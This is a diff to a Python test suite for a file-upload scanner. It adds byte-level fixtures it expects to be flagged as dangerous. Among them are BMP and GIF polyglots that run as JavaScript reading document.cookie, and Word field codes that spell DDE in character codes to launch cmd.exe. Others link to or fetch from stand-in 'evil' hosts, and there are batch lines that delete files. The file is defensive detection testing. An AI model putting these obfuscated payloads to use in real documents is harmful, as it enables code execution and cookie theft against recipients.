@@ -243,6 +243,21 @@ def field_text(*pieces: str) -> dict[str, str | bytes]:
     }
 
 
+def nested(*pieces: str) -> dict[str, str | bytes]:
+    """A document's body with fields in fields: `{`, `|` and `}` are where they begin, yield and end."""
+    kinds = {"{": "begin", "|": "separate", "}": "end"}
+    runs = "".join(
+        f'<w:r><w:fldChar w:fldCharType="{kinds[piece]}"/></w:r>'
+        if piece in kinds
+        else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
+        for piece in pieces
+    )
+    return {
+        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        f"<w:body><w:p>{runs}</w:p></w:body></w:document>"
+    }
+
+
 TEMPLATE = '<Relationship Id="r1" Type="REL/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/>'
 LINKED_OBJECT = (
     '<Relationship Id="r2" Type="REL/oleObject" Target="file://evil/x" TargetMode="External"/>'
@@ -289,6 +304,36 @@ def fills(part: bytes) -> bytes:
     return out.getvalue()
 
 
+EMF = b"\1\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 60
+WMF = b"\xd7\xcd\xc6\x9a" + b"\0" * 60
+
+
+def bmp(
+    size: bytes = b"\x4e\0\0\0", *, header: int = 40, height: int = 2, packed: int = 0
+) -> bytes:
+    """A picture of 2 by 2 pixels, 24 bits each, whose rows take 8 bytes."""
+    if header == 12:
+        return b"BM" + size + b"\0" * 4 + struct.pack("<IIHHHH", 26, 12, 2, 2, 1, 24) + b"\7" * 16
+    shape = struct.pack("<IiiHHII", header, 2, height, 1, 24, packed, 16)
+    return (
+        b"BM"
+        + size
+        + b"\0" * 4
+        + struct.pack("<I", 14 + header)
+        + shape.ljust(header, b"\0")
+        + b"\7" * 16
+    )
+
+
+def profiled() -> bytes:
+    """A picture with a color profile behind its pixels."""
+    whole = bmp(header=124)
+    return whole[:126] + struct.pack("<II", len(whole) - 14, 40) + whole[134:] + b"p" * 40
+
+
+DRAWING = r"it's (?:really )?a Windows drawing \(EMF or WMF\)"
+STARTS_SCRIPT = r"\(its first bytes are the start of a script, too\)"
+SCRIPT_GIF = b"GIF89a/*\1\0\0\0\0" + GIF[13:-1] + b"\x21\xfe\x0f*/=1;alert(1)//.\0;"
 PROGRAM = "it contains a program"
 BY_ITSELF = "it does something by itself"
 EMBEDDED = "another file is embedded in it"
@@ -315,7 +360,7 @@ DANGEROUS: dict[str, Entry] = {
     "a WebP with a program behind it": ("a.webp", WEBP + MACH_O, MORE),
     "a picture with a far Windows program": ("a.png", png(windows_program(2048)), r"\(a program is hidden in it\)"),
     "a PDF with a far Windows program": ("a.pdf", samples.pdf() + windows_program(4096) + b"\n%%EOF\n", TWO),
-    "a picture with a frame in it": ("a.bmp", b"BM" + b"\0" * 60 + b"<iframe src=x>", TWO),
+    "a picture with a frame in it": ("a.bmp", bmp(height=9) + b"<iframe src=x>", TWO),
     "a batch file behind a remark": ("a.txt", b"rem hi\r\n:: ho\r\n@echo off\r\ndel *\r\n", "it's really a script"),
     "a batch file of its own variables": ("a.txt", b"@setlocal\r\ndel *\r\n", "it's really a script"),
     "a shell script behind an empty line": ("a.txt", b"\n#!/bin/sh\nrm", "it's really a script"),
@@ -350,6 +395,38 @@ DANGEROUS: dict[str, Entry] = {
     "a Word document with Java in it": ("a.docx", docx({"A.class": b"\xca\xfe\xba\xbe"}), EMBEDDED),
     "a Word document with a web page behind it": (
         "a.docx", docx()[:-2] + struct.pack("<H", 25) + b"<script>alert(1)</script>", r"\(a web page is hidden in it\)"
+    ),
+    "a Windows drawing": ("plot.emf", EMF, DRAWING),
+    "a Windows drawing called a picture": ("plot.png", EMF, DRAWING),
+    "an older Windows drawing called a photo": ("plot.jpg", WMF, DRAWING),
+    "a picture format that nobody asked for": ("plot.png", b"8BPS\0\1" + b"\0" * 200, "really something else"),
+    "a program's data called a song": ("song.mp3", b"\0\1\2\3" * 90, "really something else"),
+    "a GIF that's a script": ("a.gif", SCRIPT_GIF, STARTS_SCRIPT),
+    "a BMP that's a script": ("a.bmp", bmp(b"/*\0\0") + b"*/=1;alert(1)", STARTS_SCRIPT),
+    "a BMP that's a text in a script": ("a.bmp", bmp(b"='\0\0") + b"';alert(1)", STARTS_SCRIPT),
+    "a BMP's mark before a script": ("a.bmp", b"BM=1;" + b"\x80alert(1);" * 30, "really something else"),
+    "a BMP with a script behind it": ("a.bmp", bmp() + b";alert(document.cookie)", MORE),
+    "an old BMP with a script behind it": ("a.bmp", bmp(header=12) + b";alert(document.cookie)", MORE),
+    "a packed BMP with a script behind it": ("a.bmp", bmp(packed=1) + b";alert(document.cookie)", MORE),
+    "a BMP upside down with a script behind it": ("a.bmp", bmp(height=-2) + b";alert(document.cookie)", MORE),
+    "a Word document whose field spells DDE in numbers": (
+        "a.docx", docx(nested("{", " ", "{", " QUOTE 68 68 69 65 85 84 79 ", "|", "}", " c:\\cmd.exe ", "}")),
+        r"\(a field whose name another one spells\)",
+    ),
+    "a Word document whose simple field spells in numbers": (
+        "a.docx",
+        docx({"word/document.xml": '<d xmlns:w="w"><w:fldSimple w:instr=" QUOTE 0x44 0x44 0x45"/></d>'}),
+        r"\(a field that spells its text in numbers\)",
+    ),
+    "a Word document whose field spells half of a name": (
+        "a.docx", docx(nested("{", " D", "{", ' QUOTE "DEAUTO" ', "}", " c:\\cmd.exe ", "}")),
+        r"\(a field whose name another one spells\)",
+    ),
+    "a Word document that includes what another field says": (
+        "a.docx", docx(nested("{", " INCLUDEPICTURE ", "{", " REF address ", "}", "}")), FETCHES,
+    ),
+    "a Word document with a linked sheet": (
+        "a.docx", docx(nested("{", ' LINK Excel.Sheet.12 "\\\\evil\\a.xlsx" ', "|", "}")), FETCHES,
     ),
     "a Windows program": ("setup.exe", WINDOWS_PROGRAM, "it's a program"),
     "a Windows program called a PDF": ("review.pdf", WINDOWS_PROGRAM, "it's really a program"),
@@ -527,6 +604,12 @@ HARMLESS: dict[str, tuple[str, bytes]] = {
     "a Word document with a link": ("review.docx", docx(a=LINK)),
     "a Word document with a picture": ("review.docx", docx({"word/media/image1.png": samples.PNG})),
     "a Word document with fields": ("review.docx", docx(field_text("PAGE ", ' TOC \\o "1-3" ', "DATE"))),
+    "a Word document with fields in fields": (
+        "review.docx",
+        docx(nested("{", ' TOC \\o "1-3" ', "|", "{", " PAGEREF _Toc1 ", "|", "}", "}", "{", " =", "{", " PAGE ", "}",
+                    " + 1 ", "}", "{", " IF ", "{", " PAGE ", "}", " = 1 &quot;a link here&quot; ", "}",
+                    "{", ' HYPERLINK "https://arxiv.org" \\o "a link to quote 5 of" ', "|", "}", "}")),
+    ),
     "a long Word document": (
         "review.docx",
         docx({"word/footnotes.xml": "<x>" + "".join(f"{n} words of text " for n in range(200_000)) + "</x>"}),
@@ -558,6 +641,21 @@ HARMLESS: dict[str, tuple[str, bytes]] = {
     ),
     "code to read": ("lab.txt", b"import os\nparam = 1\n# @echo off would be a batch file\n"),
     "a GIF": ("pong.gif", b"GIF89a\1\0\1\0\x80\0\0" + b"\0" * 40 + b";"),
+    "a BMP": ("plot.bmp", bmp()),
+    "a BMP from OS/2": ("plot.bmp", bmp(header=12)),
+    "a BMP with a color profile": ("plot.bmp", profiled()),
+    "a BMP that says it has no size": ("plot.bmp", bmp(b"\0\0\0\0")),
+    "a BMP whose size looks like a remark": ("plot.bmp", bmp(b"/*\0\0")),
+    "a photo of an iPhone": ("plot.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 64),
+    "a picture for print": ("plot.tif", b"II*\0" + b"\0" * 64),
+    "a raw MP3": ("song.mp3", b"\xff\xf3\x90\x44" + b"\0" * 300),
+    "a song in AAC": ("song.aac", b"\xff\xf1\x50\x80" + b"\0" * 300),
+    "a song in Ogg": ("song.opus", b"OggS\0\2" + b"\0" * 22 + b"\1\x13OpusHead" + b"\0" * 90),
+    "a melody in MIDI": ("song.mid", b"MThd\0\0\0\6\0\1\0\1\0\x60MTrk" + b"\0" * 40),
+    "a video for the web": ("pong.webm", b"\x1aE\xdf\xa3\x9fB\x86\x81\1B\x82\x84webm" + b"\0" * 99),
+    "a video in Ogg": ("pong.ogv", b"OggS\0\2" + b"\0" * 22 + b"\1\x2a\x80theora" + b"\0" * 90),
+    "a video in pieces": ("pong.mp4", b"\0\0\0\x18ftypiso5\0\0\2\0iso5dash" + b"\0" * 64),
+    "a video from an old Mac": ("pong.mov", b"\0\0\0\x08wide\0\0\0\x20mdat" + b"\0" * 99),
     "a recording": ("song.wav", wav()),
     "a song": ("song.mp3", samples.MP3),
     "a song in an MP4": ("song.m4a", b"\0\0\0\x18ftypM4A \0\0\x02\0isomiso2" + b"\0" * 64),
